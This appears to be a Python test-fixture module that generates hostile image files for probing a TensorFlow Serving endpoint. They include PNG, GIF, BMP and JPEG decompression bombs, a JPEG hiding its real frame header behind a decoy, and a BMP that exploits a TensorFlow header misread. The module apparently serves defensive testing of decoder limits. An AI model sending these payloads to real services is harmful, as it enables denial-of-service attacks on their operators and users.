"""Small files whose headers claim huge images, and other hostile requests, built byte by byte.

Each bomb is a few hundred bytes to a few KB: what an attacker of a TF Serving port sends.
Where a decoder would read on past the header, the data is valid but short, so an unguarded
decoder allocates the claimed size before it notices.
"""

from __future__ import annotations

import io
import struct
import zlib

import numpy as np
from PIL import Image


def _png_chunk(kind: bytes, payload: bytes) -> bytes:
    checksum = zlib.crc32(kind + payload) & 0xFFFFFFFF
    return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", checksum)


def png_bomb(width: int, height: int, *, complete: bool = False) -> bytes:
    """A PNG of width x height. `complete`: a valid 1-bit gray image of zeros (12000x12000
    is 18 KB and decodes to 432 MB of RGB); otherwise an 8-bit RGB header with 16 rows."""
    if complete:
        header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
        compressor = zlib.compressobj(9)
        row = bytes(1 + (width + 7) // 8)
        rows = b"".join(compressor.compress(row * 1000) for _ in range(height // 1000))
        rows += compressor.compress(row * (height % 1000)) + compressor.flush()
    else:
        header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
        rows = zlib.compress((b"\x00" + b"\x00" * 3 * width) * 16, 9)
    return (
        b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", rows)
        + _png_chunk(b"IEND", b"")
    )


def _constant_lzw(pixels: int) -> bytes:
    """GIF LZW data (minimum code size 2) for `pixels` pixels of colour 0.

    On constant input LZW sends codes for runs of 1, 2, 3, ... pixels, so 256 M pixels take
    about 180 KB: the compression that makes GIF bombs small.
    """
    clear, end, first_free = 4, 5, 6
    codes, remaining = [clear], pixels
    while remaining > 0:
        codes.append(0)  # one pixel
        remaining -= 1
        next_code, run = first_free, 2
        while remaining >= run and next_code < 4095:
            codes.append(next_code)  # the run just added to the table (LZW's KwKwK case)
            remaining -= run
            next_code, run = next_code + 1, run + 1
        codes.append(clear)
    codes.append(end)
    bits, width, bit_count, out = 0, 3, 0, bytearray()
    table_size = first_free
    for code in codes:
        bits |= code << bit_count
        bit_count += width
        while bit_count >= 8:
            out.append(bits & 0xFF)
            bits >>= 8
            bit_count -= 8
        if code == clear:
            width, table_size = 3, first_free
        else:
            table_size += 1
            if table_size == (1 << width) + 1 and width < 12:
                width += 1
    if bit_count:
        out.append(bits & 0xFF)
    blocks = b"".join(bytes([len(out[i:i + 255])]) + out[i:i + 255] for i in range(0, len(out), 255))
    return b"\x02" + blocks + b"\x00"


def gif_bomb(screen: tuple[int, int], frame: tuple[int, int], *, complete: bool = False) -> bytes:
    """A GIF whose logical screen and first frame are (width, height) each. `complete`: the
    frame's LZW data covers every pixel (16000x16000 is about 180 KB); otherwise 271 bytes."""
    header = b"GIF89a" + struct.pack("<HH", *screen) + bytes([0x80, 0, 0]) + b"\x00\x00\x00\xff\xff\xff"
    descriptor = b"\x2c" + struct.pack("<HHHH", 0, 0, *frame) + b"\x00"
    if complete:
        lzw = _constant_lzw(frame[0] * frame[1])
    else:
        lzw = b"\x02" + b"\xff" + bytes(255) + b"\x10" + bytes(16) + b"\x00"
    return header + descriptor + lzw + b"\x3b"


def bmp_bomb(width: int, height: int, *, core_header: bool = False) -> bytes:
    """A 24-bit BMP header of width x height (a negative height is top-down), 64 pixel bytes."""
    pixels = bytes(64)
    if core_header:  # BITMAPCOREHEADER: 16-bit sizes
        dib = struct.pack("<IHHHH", 12, width, height, 1, 24)
    else:
        dib = struct.pack("<IiiHHIIiiII", 40, width, height, 1, 24, 0, len(pixels), 2835, 2835, 0, 0)
    offset = 14 + len(dib)
    return b"BM" + struct.pack("<IHHI", offset + len(pixels), 0, 0, offset) + dib + pixels


def jpeg_bomb(width: int, height: int, *, marker: int = 0xC0, app_bytes: int = 0) -> bytes:
    """A JPEG whose frame header (SOF0 by default, SOF2 = progressive) claims width x height,
    after an APP1 segment of `app_bytes` bytes, followed by a small valid-looking scan."""
    segments = b"\xff\xd8"
    segments += b"\xff\xe0" + struct.pack(">H", 16) + b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    if app_bytes:
        segments += b"\xff\xe1" + struct.pack(">H", app_bytes + 2) + bytes(app_bytes)
    segments += b"\xff\xdb" + struct.pack(">H", 67) + b"\x00" + bytes([1] * 64)
    segments += (
        bytes([0xFF, marker]) + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\x00"
    )
    huffman = b"\x00" + bytes([0, 1] + [0] * 14) + b"\x00"  # one code of length 2
    segments += b"\xff\xc4" + struct.pack(">H", 2 + len(huffman)) + huffman
    segments += b"\xff\xc4" + struct.pack(">H", 2 + len(huffman)) + b"\x10" + huffman[1:]
    segments += b"\xff\xda" + struct.pack(">HB", 8, 1) + b"\x01\x00\x00\x3f\x00"
    return segments + bytes(256) + b"\xff\xd9"


def animated_gif(frames: int, size: int = 256) -> tuple[bytes, bytes]:
    """(an animation of `frames` distinct full frames, its first frame alone as a GIF)."""
    rows, columns = np.mgrid[0:size, 0:size]
    images = []
    for index in range(frames):
        pixels = np.stack(
            [(rows + index) % 256, (columns * 3 + index) % 256, np.full_like(rows, index % 256)], -1
        ).astype(np.uint8)
        images.append(Image.fromarray(pixels).quantize(colors=64, dither=Image.Dither.NONE))
    animation = io.BytesIO()
    images[0].save(
        animation, format="GIF", save_all=True, append_images=images[1:], duration=40,
        optimize=False, disposal=1,
    )
    first = io.BytesIO()
    images[0].save(first, format="GIF")
    return animation.getvalue(), first.getvalue()


def _jpeg_segments(jpeg: bytes) -> list[tuple[int, int, int]]:
    """(marker, start, end) of each segment of a well-formed JPEG, a scan with its entropy-coded
    data (which ends at the first FF not followed by 00 or a restart marker RST0..7)."""
    segments, position = [], 2
    while position < len(jpeg):
        marker = jpeg[position + 1]
        if marker == 0xD9:
            segments.append((marker, position, position + 2))
            break
        end = position + 2 + struct.unpack(">H", jpeg[position + 2:position + 4])[0]
        if marker == 0xDA:
            while not (jpeg[end] == 0xFF and jpeg[end + 1] not in (0, *range(0xD0, 0xD8))):
                end += 1
        segments.append((marker, position, end))
        position = end
    return segments


def jpeg_hiding_its_frame(jpeg: bytes, shown: tuple[int, int] = (8, 8)) -> bytes:
    """`jpeg` with a decoy frame header of shown = (width, height) that a walker reads and libjpeg
    does not: after SOI, the stuffed-zero pair FF 00 and a 2-byte "length" that reaches into a
    comment holding the decoy. libjpeg discards FF 00 and the bytes after it up to the next
    marker as junk, reads the real frame header, and skips the comment whole."""
    frame_end = next(end for marker, _, end in _jpeg_segments(jpeg) if 0xC0 <= marker <= 0xC2)
    decoy = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, shown[1], shown[0], 1) + b"\x01\x11\x00"
    body = jpeg[2:frame_end]
    for padding in range(4):  # the length must hold no FF byte, or libjpeg reads a marker in it
        comment = b"\xff\xfe" + struct.pack(">H", 2 + padding + len(decoy)) + bytes(padding) + decoy
        length = len(body) + 4 + padding + 2  # from the FF 00 pair to the decoy, less 2
        if 0xFF not in struct.pack(">H", length):
            return b"\xff\xd8\xff\x00" + struct.pack(">H", length) + body + comment + jpeg[frame_end:]
    raise ValueError("no length without an FF byte")


def jpeg_with_repeated_last_scan(jpeg: bytes, copies: int) -> bytes:
    """A progressive `jpeg` with `copies` more copies of its last scan before EOI: each one is
    decoded again over every pixel (libjpeg warns and goes on)."""
    _, start, end = [segment for segment in _jpeg_segments(jpeg) if segment[0] == 0xDA][-1]
    return jpeg[:-2] + jpeg[start:end] * copies + jpeg[-2:]


def gif_with_long_comment(sub_blocks: int, lengths: tuple[int, ...] = (1,)) -> bytes:
    """A 1x1 GIF whose comment extension holds `sub_blocks` sub-blocks, their lengths taken in
    turn from `lengths` (100,000 one-byte sub-blocks: 200 KB)."""
    header = b"GIF89a" + struct.pack("<HH", 1, 1) + bytes([0x80, 0, 0]) + b"\x00\x00\x00\xff\xff\xff"
    comment = b"\x21\xfe" + b"".join(
        bytes([length]) + b"a" * length
        for length in (lengths[index % len(lengths)] for index in range(sub_blocks))
    ) + b"\x00"
    descriptor = b"\x2c" + struct.pack("<HHHH", 0, 0, 1, 1) + b"\x00"
    return header + comment + descriptor + _constant_lzw(1) + b"\x3b"


def bmp_core_header_read_wide(width: int) -> bytes:
    """A BMP with a 12-byte core header that says width x 1, which TensorFlow's decoder reads as
    a 40-byte header: 32-bit width at offset 18 (width + 65536) and height at 22 (planes = 1),
    bits per pixel at 28 (24), so it decodes (width + 65536) x 1 pixels from the data given."""
    core = struct.pack("<IHHHH", 12, width, 1, 1, 0) + struct.pack("<HH", 0, 24)
    pixels = bytes(((width + 65536) * 3 + 3) // 4 * 4)
    offset = 14 + len(core)
    return b"BM" + struct.pack("<IHHI", offset + len(pixels), 0, 0, offset) + core + pixels
